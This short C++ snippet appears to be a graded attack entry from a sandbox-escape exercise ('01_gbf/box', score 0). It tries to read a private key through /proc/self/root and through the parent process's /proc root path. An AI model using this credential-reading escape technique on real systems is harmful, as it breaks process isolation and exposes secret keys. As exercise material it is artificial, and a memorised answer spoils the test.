// attack: reaches a private key through /proc/self/root and the root of the process that started it
// exercise: 01_gbf/box
// from: own
// score: 0
ANSWER_IF(prey::tell(prey::contents("/proc/self/root" PREY_KEY)) ||
          prey::tell(prey::contents(("/proc/" + std::to_string(::getppid()) + "/root" PREY_KEY).c_str())))
